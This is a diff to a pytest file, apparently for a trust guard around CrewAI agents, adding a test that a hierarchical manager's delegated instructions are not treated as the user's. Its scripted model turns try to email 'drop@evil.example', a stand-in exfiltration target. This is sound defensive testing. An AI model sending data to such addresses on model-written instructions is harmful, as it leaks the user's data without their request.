@@ -22,7 +22,7 @@ import asyncio
 import json
 from typing import Any
 
-from crewai import Agent, BaseLLM, Crew, Task
+from crewai import Agent, BaseLLM, Crew, Process, Task
 from crewai.tools import BaseTool, tool
 from pydantic import Field
 
@@ -233,6 +233,51 @@ def test_a_crew_a_tool_kicks_off_gets_the_models_words_not_the_users(
     assert "fetch_url" in ran
     assert ("send_email:drop@evil.example" in ran) is sent
     assert trusted_inputs(history, "crew-3") == 5  # the outer crew's only
+
+
+@pytest.mark.parametrize(
+    ("request_text", "sent"),
+    [("summarise https://blog.example", False), ("mail drop@evil.example a summary", True)],
+)
+def test_a_hierarchical_managers_delegation_is_not_trusted(request_text: str, sent: bool) -> None:
+    """``Process.hierarchical``: the manager runs the crew's task (trusted) and
+    delegates to a worker with words its model wrote (never trusted)."""
+    guard, history = guarded("crew-4")
+    ran: list[str] = []
+    fetch_url, send_email = mail_tools(ran)
+    manager_llm = ScriptedLLM(
+        model="manager",
+        turns=[
+            calls(("fetch_url", {"url": "https://blog.example"})),
+            calls(
+                (
+                    "delegate_work_to_coworker",
+                    {"task": "mail drop@evil.example", "context": "asked", "coworker": "mailer"},
+                )
+            ),
+            "done",
+        ],
+    )
+    mailer = Agent(
+        role="mailer",
+        goal="send the mails asked for",
+        backstory="careful with addresses",
+        llm=ScriptedLLM(
+            model="mailer",
+            turns=[calls(("send_email", {"to": "drop@evil.example", "body": "hi"})), "mailed"],
+        ),
+        tools=[send_email],
+    )
+    task = Task(description=request_text, expected_output="a word", tools=[fetch_url])
+    crew = Crew(
+        agents=[mailer], tasks=[task], process=Process.hierarchical, manager_llm=manager_llm
+    )
+    guard_crew(crew, guard, refusal="message")
+    crew.kickoff()
+    assert "fetch_url" in ran
+    assert ("send_email:drop@evil.example" in ran) is sent
+    # manager: role, goal, backstory, description, expected output; mailer: 3
+    assert trusted_inputs(history, "crew-4") == 8
 
 
 def test_run_inputs_leave_out_a_task_the_crew_does_not_hold() -> None:
